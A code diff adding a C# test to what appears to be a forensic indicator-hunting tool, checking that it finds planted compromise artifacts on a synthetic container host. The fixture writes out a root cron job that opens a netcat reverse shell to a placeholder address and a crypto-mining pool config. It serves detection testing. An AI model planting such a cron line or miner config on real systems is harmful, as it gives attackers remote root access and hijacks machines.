@@ -54,6 +54,22 @@ internal sealed class HuntTests
         Assert.That(found.Where(f => f.Text("rule") == "indicator").Select(f => f.Text("reason")), Has.Some.Contains("192.0.2.44"));
     }
 
+    /// <summary>A second host with three of what shop's findings rest on, and nothing else of it.</summary>
+    [Test]
+    public void Finds_of_another_host_the_three_that_are_here()
+    {
+        string shop = SharedFolder.Require("evidence/shop/shop.tar.gz"), from = _scratch.File("shop.iocs.csv");
+        BuiltProgram.Run("analyze", shop, "--verify", "none", "--hash", "none", "-o", from).MustExit(0);
+        string second = Truth.StoreBuilder.Whole()
+            .File($"aufs/diff/{Truth.StoreBuilder.Id('c')}/etc/cron.d/job", "* * * * * root nc 198.51.100.23 4444 -e sh\n")
+            .File($"aufs/diff/{Truth.StoreBuilder.Id('c')}/opt/pool.json", "{\"pool\":\"stratum+tcp://203.0.113.9:3333\"}\n").WriteTo(_scratch
+                .File("second.tar"));
+        string[] Hunted(string evidence) => [.. BuiltProgram.Run("hunt", evidence, "--from", from, "--format", "json").MustExit(0, 4).JsonRows()
+            .Select(h => $"{h.Text("kind")} {h.Text("value")}").Distinct().Order(StringComparer.Ordinal)];
+        Assert.That(Hunted(second), Is.EqualTo(new[] { "ipv4 198.51.100.23", "ipv4 203.0.113.9", "pool stratum+tcp://203.0.113.9:3333" }));
+        Assert.That(Hunted(s_quiet), Is.Empty);
+    }
+
     [TestCase("{\"objects\": []}")]
     [TestCase("{")]
     public void Nothing_to_look_for_is_a_wrong_call(string text)
